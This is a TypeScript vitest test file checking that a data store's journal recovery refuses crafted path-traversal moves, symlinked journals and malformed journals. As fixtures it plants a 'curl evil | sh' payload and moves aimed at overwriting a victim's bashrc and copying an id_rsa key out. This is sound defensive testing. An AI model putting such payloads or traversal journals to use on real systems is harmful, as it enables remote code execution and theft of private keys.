import fs from 'node:fs';
import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { listTree } from '../../../core/store/catalog.js';
import { openStore, recoverStore } from '../../../core/store/openStore.js';
import { commitRawSnapshots } from '../../../core/store/rawSnapshot.js';
import { applyJournal, checkJournalMoves, readJournal } from '../../../core/store/stagingArea.js';
import { HOST_TAG } from '../../../core/store/storeLock.js';
import { verifyStore } from '../../../core/store/verifyStore.js';
import { ohlcvTable } from '../../helpers/ohlcvTable.js';
import { errorOf, newStore } from './storeTestKit.js';

/** A pid no process has (above every system's pid limit), so its staging folder counts as left over. */
const DEAD_PID = 2147483646;
const deadWriter = (suffix = 'a1b2c3d4e5f6') => `${DEAD_PID}-${HOST_TAG}-${suffix}`;

describe('staging journals', () => {
  const cleanups: (() => void)[] = [];
  afterEach(() => cleanups.splice(0).forEach((cleanup) => cleanup()));

  /** A store with one snapshot, and a victim folder beside it holding files an attacker wants. */
  async function storeBesideVictim() {
    const made = await newStore();
    cleanups.push(made.cleanup);
    await commitRawSnapshots(made.store, [{ asset: 'MES', date: '2024-01-15', name: 'ohlcv', table: ohlcvTable(5) }]);
    const victim = path.join(made.dir, 'victim');
    fs.mkdirSync(victim);
    fs.writeFileSync(path.join(victim, 'bashrc'), 'echo hello\n');
    fs.writeFileSync(path.join(victim, 'id_rsa'), 'PRIVATE KEY\n');
    const plant = (folder: string, journal: unknown) => {
      const dir = path.join(made.store.root, '.staging', folder);
      fs.mkdirSync(dir, { recursive: true });
      fs.writeFileSync(path.join(dir, 'payload'), 'curl evil | sh\n');
      fs.writeFileSync(path.join(dir, 'journal.json'), typeof journal === 'string' ? journal : JSON.stringify(journal));
      return dir;
    };
    return { ...made, victim, plant };
  }

  const evilMoves = (folder: string) => [
    { from: `.staging/${folder}/payload`, to: '../victim/bashrc', kind: 'file', replace: true },
    { from: '../victim/id_rsa', to: 'raw/stolen_id_rsa', kind: 'file' },
  ];

  it('a crafted journal in a store folder from someone else is never applied, on open, ls or recovery', async () => {
    const { store, victim, plant } = await storeBesideVictim();
    const foreign = plant('evil', { moves: evilMoves('evil') });
    const writerNamed = plant(deadWriter(), { moves: evilMoves(deadWriter()) });
    const reopened = await openStore(store.root);
    expect((await listTree(reopened, 'raw', { depth: 1 })).children?.map((c) => c.path)).toEqual(['raw/MES']);
    const result = await recoverStore(reopened);
    expect(fs.readFileSync(path.join(victim, 'bashrc'), 'utf8')).toBe('echo hello\n');
    expect(fs.readFileSync(path.join(victim, 'id_rsa'), 'utf8')).toBe('PRIVATE KEY\n');
    expect(fs.existsSync(path.join(store.root, 'raw', 'stolen_id_rsa'))).toBe(false);
    const journalPath = `.staging/${deadWriter()}/journal.json`;
    expect(result.failed).toEqual([
      {
        path: `.staging/${deadWriter()}`,
        code: 'CORRUPTED_STORE',
        message: `${journalPath} is not a journal this program wrote (move 1: ${JSON.stringify(evilMoves(deadWriter())[0])}): store path "../victim/bashrc" contains ".." and would leave the store; it was not applied and is left for you to look at`,
      },
    ]);
    expect(result.rolledForward).toEqual([]);
    // both folders are left for a person: the foreign one is not ours to remove
    expect(fs.existsSync(writerNamed) && fs.existsSync(foreign)).toBe(true);
    const verified = await verifyStore(reopened);
    expect(verified.problems.map((p) => [p.path, p.code])).toEqual([
      [`.staging/${deadWriter()}`, 'CORRUPTED_STORE'],
      ['.staging/evil', 'UNEXPECTED_FILE'],
    ]);
  });

  it('refuses every move that leaves its staging folder or lands outside a layer, naming the journal', () => {
    const own = `.staging/${deadWriter()}`;
    const refused = (move: unknown) => {
      try {
        checkJournalMoves([move], `${own}/journal.json`, own);
      } catch (error) {
        return { code: (error as { code: string }).code, reason: (error as { details: { reason: string } }).details.reason };
      }
      return null;
    };
    const file = (from: string, to: string, extra: object = {}) => ({ from, to, kind: 'file', ...extra });
    expect(refused(file(`${own}/files/a.parquet`, 'raw/MES/2024-01-15/a.parquet'))).toBeNull();
    expect(refused(file(`${own}/s/1.json`, 'catalog/raw/MES/2024-01-15.json', { replace: true }))).toBeNull();
    expect(refused(file(`${own}/s/1.json`, 'catalog/cleaned/MES/v3.json'))).toBeNull();
    // the journal a format-1 writer left (for migrate to finish)
    expect(refused(file(`${own}/s/1.json`, 'raw/MES/2024-01-15/metadata.json', { replace: true }))).toBeNull();
    expect(refused({ from: `${own}/folders/0`, to: 'cleaned/v3/MES', kind: 'dir' })).toBeNull();
    const cases: [unknown, string][] = [
      [file('raw/MES/2024-01-15/a.parquet', 'raw/MES/2024-01-16/a.parquet'), `"from" must be inside ${own}/`],
      [file(`.staging/${deadWriter('ffffffffffff')}/x`, 'raw/MES/2024-01-15/x'), `"from" must be inside ${own}/`],
      [file(`${own}/x`, '/etc/passwd'), 'store path "/etc/passwd" is absolute; store paths are relative to the store'],
      [file(`${own}/x`, 'raw/MES/../../x'), 'store path "raw/MES/../../x" contains ".." and would leave the store'],
      [file(`${own}/x`, 'raw\\..\\x'), 'store path "raw\\\\..\\\\x" contains a backslash'],
      [file(`${own}/x`, 'mes-data-store.json'), '"to" must be inside raw/, cleaned/, features/, catalog/raw/, catalog/cleaned/, catalog/features/'],
      [file(`${own}/x`, 'schemas/ohlcv.json'), '"to" must be inside raw/, cleaned/, features/, catalog/raw/, catalog/cleaned/, catalog/features/'],
      [file(`${own}/x`, 'raw/.lock/owner.json'), '"to" has a hidden part'],
      [file(`${own}/x`, 'raw/MES/2024-01-15/a.parquet', { replace: true }), 'only a sidecar (a .json file in catalog/) may be replaced'],
      [file(`${own}/x`, 'catalog/raw/MES/2024-01-15/a.parquet', { replace: true }), 'only a sidecar (a .json file in catalog/) may be replaced'],
      [file(`${own}/x`, 'catalog/MES.json'), '"to" must be inside raw/, cleaned/, features/, catalog/raw/, catalog/cleaned/, catalog/features/'],
      [file(`${own}/x`, 'catalog/schemas/MES.json'), '"to" must be inside raw/, cleaned/, features/, catalog/raw/, catalog/cleaned/, catalog/features/'],
      [file(`${own}/journal.json`, 'raw/MES/j.json'), 'it moves the journal itself'],
      [{ from: `${own}/x`, to: 'raw/MES/x', kind: 'link' }, '"kind" must be "file", "dir" or "supersede"'],
      [{ from: `${own}/x`, to: 'raw/MES/x', kind: 'file', mode: 777 }, 'unknown field "mode"'],
      [{ from: 1, to: 'raw/MES/x', kind: 'file' }, '"from" and "to" must be strings'],
      ['move', 'a move is not an object'],
    ];
    for (const [move, reason] of cases) expect(refused(move), JSON.stringify(move)).toEqual({ code: 'CORRUPTED_STORE', reason });
  });

  it('a journal that is not JSON, not an object or not a list of moves is CORRUPTED_STORE, a linked one SYMLINK, and each is kept', async () => {
    const { store, dir, plant } = await storeBesideVictim();
    const cases: [string, () => void, string, string][] = [
      [deadWriter('000000000001'), () => plant(deadWriter('000000000001'), '{"moves": ['), 'CORRUPTED_STORE', 'not JSON'],
      [deadWriter('000000000002'), () => plant(deadWriter('000000000002'), '[1,2]'), 'CORRUPTED_STORE', 'not an object'],
      [deadWriter('000000000003'), () => plant(deadWriter('000000000003'), '{"moves": {"from": "x"}}'), 'CORRUPTED_STORE', '"moves" is not a list'],
      [
        deadWriter('000000000004'),
        () => {
          const folder = path.join(store.root, '.staging', deadWriter('000000000004'));
          fs.mkdirSync(folder, { recursive: true });
          fs.writeFileSync(path.join(dir, 'outside.json'), JSON.stringify({ moves: [] }));
          fs.symlinkSync(path.join(dir, 'outside.json'), path.join(folder, 'journal.json'));
        },
        'SYMLINK',
        'link',
      ],
    ];
    for (const [folder, make, code, reason] of cases) {
      make();
      const error = await errorOf(readJournal(store, `.staging/${folder}`));
      if (code === 'SYMLINK') expect({ code: error.code, path: error.details.path }).toEqual({ code, path: `.staging/${folder}/journal.json` });
      else expect({ code: error.code, reason: error.details.reason, path: error.details.path }).toEqual({ code, reason, path: `.staging/${folder}/journal.json` });
    }
    const result = await recoverStore(store);
    expect(result.failed.map((f) => [f.path, f.code])).toEqual(cases.map(([folder, , code]) => [`.staging/${folder}`, code]));
    for (const [folder] of cases) expect(fs.existsSync(path.join(store.root, '.staging', folder))).toBe(true);
  });

  it('applyJournal checks every move before it moves anything', async () => {
    const { store, victim } = await storeBesideVictim();
    const own = `.staging/${deadWriter()}`;
    fs.mkdirSync(path.join(store.root, own), { recursive: true });
    fs.writeFileSync(path.join(store.root, own, 'a.parquet'), 'A');
    const error = await errorOf(applyJournal(store, [
      { from: `${own}/a.parquet`, to: 'raw/MES/2024-01-15/a.parquet', kind: 'file' },
      { from: `${own}/b`, to: '../victim/b', kind: 'file' },
    ]));
    expect(error.code).toBe('CORRUPTED_STORE');
    expect(fs.existsSync(path.join(store.root, own, 'a.parquet'))).toBe(true);
    expect(fs.existsSync(path.join(store.root, 'raw/MES/2024-01-15/a.parquet'))).toBe(false);
    expect(fs.readdirSync(victim).sort()).toEqual(['bashrc', 'id_rsa']);
  });
});
